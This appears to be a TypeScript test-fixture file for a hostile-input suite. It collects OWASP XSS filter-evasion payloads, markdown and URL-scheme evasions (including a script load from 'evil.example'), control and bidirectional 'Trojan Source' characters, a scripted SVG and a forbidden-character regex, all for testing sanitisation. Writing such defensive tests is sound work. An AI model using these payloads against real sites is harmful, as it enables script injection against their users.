/**
 * What a hostile or careless spreadsheet can hold: XSS filter-evasion payloads, script and data links in their
 * obfuscated spellings, control and bidirectional characters, and a 10 MB string. Shared by the hostile-input
 * suite (tests/hostile/).
 */

/**
 * Payloads from the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), one line each. Every one
 * that could run calls alert() (a dialog the browser test records) or loads a script from xss.rocks (a request to
 * another origin, recorded too). A literal tab stays (it is one of the evasions); raw newlines and NUL bytes are
 * left to the control-character rows.
 */
export const OWASP_XSS: readonly string[] = [
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
  `"><script>alert(1)</script>`,
  `' onmouseover='alert(1)' x='`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<details open ontoggle=alert(1)>`,
];

/** Markdown-only evasions, appended to payloads in the markdown columns (abstracts, bios). */
export const MARKDOWN_XSS: readonly string[] = [
  `[link](javascript:alert(1))`,
  `[encoded](&#106;avascript:alert(1))`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![img](javascript:alert(1))`,
  `<javascript:alert(1)>`,
  `[ref][r]\n\n[r]: javascript:alert(1)`,
];

/**
 * Links no URL column may publish: javascript:, data: and vbscript:, in the spellings filters miss (case, leading
 * white space, tabs and newlines inside the scheme, HTML entities, a NUL in front, percent-encoded newlines).
 */
export const BAD_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '  javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'javascript&colon;alert(1)',
  '\u0000javascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript://example.org/%0Aalert(document.domain)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox("XSS")',
  'VBScript:MsgBox(1)',
  ' vbscript:alert(1)',
  '//evil.example/x.js',
  'https:javascript:alert(1)',
  'https://example.org/\u202Efdp.exe',
  'https://example.org/\u0007bell',
];

/** Control characters that have no place in published text (NUL, BEL, ESC and its terminal sequence, DEL, C1). */
export const CONTROL_CHARACTERS: readonly { name: string; char: string }[] = [
  { name: 'NUL', char: '\u0000' },
  { name: 'BEL', char: '\u0007' },
  { name: 'ESC', char: '\u001b[2J\u001b[31m' },
  { name: 'backspace', char: '\u0008' },
  { name: 'vertical tab', char: '\u000B' },
  { name: 'form feed', char: '\u000C' },
  { name: 'DEL', char: '\u007F' },
  { name: 'C1 NEL', char: '\u0085' },
];

/** Bidirectional controls that reorder how text after them is shown (the "Trojan Source" characters). */
export const BIDI_OVERRIDES: readonly { name: string; char: string }[] = [
  { name: 'RLO', char: '\u202E' },
  { name: 'LRO', char: '\u202D' },
  { name: 'RLE', char: '\u202B' },
  { name: 'RLI', char: '\u2067' },
];

/** A string of `bytes` UTF-8 bytes (ASCII words with spaces and commas, so splitters and checks see many pieces). */
export function hugeString(bytes = 10 * 1024 * 1024, word = 'Lorem ipsum, dolor and sit amet; '): string {
  return word.repeat(Math.ceil(bytes / word.length)).slice(0, bytes);
}

/**
 * An SVG that runs a script when opened as a document or inlined: never a photo, whatever type it claims.
 */
export const SCRIPTED_SVG = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n',
);

/** Characters that must never appear in published text: C0 controls but tab and line breaks, DEL, C1, bidi overrides/isolates. */
export const FORBIDDEN_IN_TEXT = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;
